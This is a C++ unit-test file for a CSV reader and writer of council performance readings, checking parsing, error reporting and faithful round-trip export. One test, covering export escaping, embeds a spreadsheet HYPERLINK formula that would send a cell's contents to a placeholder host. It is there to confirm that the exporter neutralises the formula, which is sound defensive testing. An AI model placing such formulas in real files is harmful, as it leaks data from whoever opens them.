#include "services/cli/readings_csv.h"

#include <gmock/gmock.h>

#include "bellwether/testing/status_matchers.h"

namespace bellwether::cli {
namespace {

using bellwether::testing::IsError;
using bellwether::testing::IsOk;
using ::testing::ElementsAre;
using ::testing::HasSubstr;
using ::testing::IsEmpty;
using ::testing::SizeIs;

ReadingsFile Parsed(std::string_view text) {
  absl::StatusOr<ReadingsFile> file = ParseReadings(text, "E06000061", "file-1");
  EXPECT_THAT(file, IsOk());
  return file.ok() ? *std::move(file) : ReadingsFile{};
}

TEST(ReadingsCsvTest, EachKindOfFigure) {
  const ReadingsFile file = Parsed(
      "ref,period,value,numerator,denominator,mean,weight,reason,observation_status\n"
      "T1,2022-02,98.0,,,,,,\n"
      "T2,2022-02,50,1,2,,,,\n"
      "T3,2022-02,,1,2,,,,P\n"
      "T4,2022-02,,,,20.55,657,,\n"
      "T5,2022-02,,,,,,system down,O\n"
      "T6,2022-02,,,,,,,M\n");
  EXPECT_THAT(file.errors.Lines(), IsEmpty());
  ASSERT_THAT(file.rows, SizeIs(6));
  EXPECT_EQ(file.rows[0].reading->measurement().value().value(), "98.0");
  EXPECT_EQ(file.rows[1].reading->measurement().ratio().value().value(), "50");
  EXPECT_FALSE(file.rows[2].reading->measurement().ratio().has_value());
  EXPECT_EQ(file.rows[3].reading->measurement().weighted_mean().weight().value(), "657");
  EXPECT_EQ(file.rows[4].reading->measurement().not_available().reason(), "system down");
  EXPECT_TRUE(file.rows[5].reading->measurement().has_not_available());
  EXPECT_EQ(file.rows[0].reading->council(), "E06000061");
}

TEST(ReadingsCsvTest, RowsWithoutAnIdGetOneFromTheirLine) {
  const ReadingsFile file = Parsed("ref,period,value,reading_id\nT1,2022-02,1,\nT1,2022-01,1,mine\n");
  EXPECT_EQ(file.rows[0].reading->reading_id(), "file-1-2");
  EXPECT_EQ(file.rows[1].reading->reading_id(), "mine");
}

TEST(ReadingsCsvTest, ARowsCommentIsARecordWithTheRowsId) {
  const ReadingsFile file = Parsed("ref,period,value,comment\nT1,2022-02,1,words\nT1,2022-01,,only words\n");
  EXPECT_EQ(file.rows[0].comment->comment_id(), file.rows[0].reading->reading_id());
  EXPECT_FALSE(file.rows[1].reading.has_value());
  EXPECT_EQ(file.rows[1].comment->text(), "only words");
}

TEST(ReadingsCsvTest, SaysWhichRowsSayNothingOrTooMuch) {
  const ReadingsFile file = Parsed("ref,period,value,mean,weight\nT1,2022-02,,,\nT1,2022-01,1,2,3\nT1,2022-03,5,,\n");
  EXPECT_THAT(file.errors.Lines(),
              ElementsAre(HasSubstr("line 2: neither a figure nor a comment"), HasSubstr("line 3: fill value, or")));
  EXPECT_THAT(file.rows, SizeIs(1));
  EXPECT_THAT(ParseReadings("period,value\n", "E06000061", "x"),
              IsError(absl::StatusCode::kInvalidArgument, "\"ref\" is missing"));
}

TEST(ReadingsCsvTest, WhatIsExportedIsSubmittedAsItWas) {
  const std::string text =
      "council,ref,period,reading_id,corrects,value,numerator,denominator,mean,weight,volume,amount,amount_in_period,"
      "attainment,"
      "observation_status,as_at,published_arrow,published_status,reason,source,comment\r\n"
      "E06000061,T15,2022-02,r1,r0,94.94,,,,,,206933536.09,401700887,98.9,P,2022-02-28,↓,Amber,,revenues,"
      "\"two\nlines\"\r\n"
      "E06000061,T17,2022-02,r2,,,,,20.55,657,12,,,,A,,,,,,\r\n"
      "E06000061,T1,2022-02,r3,,85.71,24,28,,,,,,,A,,,,,,\r\n"
      "E06000061,T1,2022-03,r4,,,,,,,,,,,M,,,,does not apply,,\r\n"
      "E06000061,T1,2022-04,c5,,,,,,,,,,,,,,,,me,only words\r\n";
  const ReadingsFile file = Parsed(text);
  ASSERT_THAT(file.rows, SizeIs(5));
  std::string again = ReadingsHeader();
  for (const ReadingsRow& row : file.rows) {
    v1::ReadingInForce in_force;
    if (row.reading) *in_force.mutable_reading() = *row.reading;
    if (row.comment) *in_force.mutable_comment() = *row.comment;
    again += ReadingsLine(in_force);
  }
  EXPECT_EQ(again, text);
}

TEST(ReadingsCsvTest, AnExportIsInertAndComesBackTheSame) {
  v1::ReadingInForce in_force;
  v1::Reading& reading = *in_force.mutable_reading();
  reading.set_council("E06000061");
  reading.set_ref("T1");
  reading.set_period("2022-02");
  reading.set_reading_id("r1");
  reading.mutable_measurement()->mutable_value()->set_value("-3.5");
  reading.set_published_arrow("-");
  v1::Comment& comment = *in_force.mutable_comment();
  comment.set_text("=HYPERLINK(\"http://example.invalid/?x=\"&B2,\"open\")");
  const std::string line = ReadingsLine(in_force);
  EXPECT_THAT(line, HasSubstr(",-3.5,"));
  EXPECT_THAT(line, HasSubstr(",'-,"));
  EXPECT_THAT(line, HasSubstr("\"'=HYPERLINK("));
  const ReadingsFile file = Parsed(ReadingsHeader() + line);
  ASSERT_THAT(file.rows, SizeIs(1));
  EXPECT_EQ(file.rows[0].reading->measurement().value().value(), "-3.5");
  EXPECT_EQ(file.rows[0].reading->published_arrow(), "-");
  EXPECT_EQ(file.rows[0].comment->text(), comment.text());
}

}  // namespace
}  // namespace bellwether::cli
